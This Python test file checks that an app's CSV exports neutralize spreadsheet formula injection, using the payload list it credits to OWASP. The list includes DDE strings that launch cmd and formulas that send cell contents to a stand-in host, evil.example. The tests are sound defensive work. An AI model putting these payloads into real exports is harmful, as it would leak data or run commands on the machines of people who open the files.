"""CSV formula injection: every cell a spreadsheet would run as a formula is shown as text, in
every export (``core.spreadsheet``), for the payloads of the OWASP CSV injection page."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from httpx import AsyncClient
from sqlalchemy.ext.asyncio import AsyncSession

from tests.factories import logged_in_as, make_contact, make_customer
from workmate.core import spreadsheet

OWASP = [
    "=1+1",
    '=1+HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    '=HYPERLINK("http://evil.example")',
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Müller GmbH", "1+1", "Tag: =x", " =1+1", "", "'=schon maskiert"]


@pytest.mark.parametrize("payload", OWASP)
def test_formula_cells_are_neutralized(payload: str) -> None:
    assert spreadsheet.neutralize(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet.neutralize(text) == text


def test_numbers_formatted_by_the_export_stay_numbers() -> None:
    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow([spreadsheet.Figure("-1.234,50"), 7, "-1.234,50"])
    assert out.getvalue() == "-1.234,50;7;'-1.234,50\r\n"


async def test_the_customer_export_neutralizes_every_text_column(
    client: AsyncClient, session: AsyncSession
) -> None:
    await logged_in_as(client, session, "admin")
    for index, payload in enumerate(OWASP):
        customer = await make_customer(
            session,
            name=payload,
            city=payload,
            notes=payload,
            tags=[payload.strip()[:30] or "x"],
            hourly_rate=Decimal("95.50"),
        )
        await make_contact(session, customer.id, name=f"{payload} {index}", is_primary=True)
    await session.commit()
    response = await client.get("/api/v1/customers/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, data = rows[0], rows[1:]
    assert len(data) == len(OWASP)
    for row in data:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(spreadsheet.FORMULA_STARTS), (column, cell)


def test_every_csv_export_writes_through_the_safe_writer() -> None:
    """Now and later: ``csv.writer`` is used in one place only."""
    source = Path(spreadsheet.__file__).parents[1]
    users = [
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
    ]
    assert users == ["core/spreadsheet.py"]
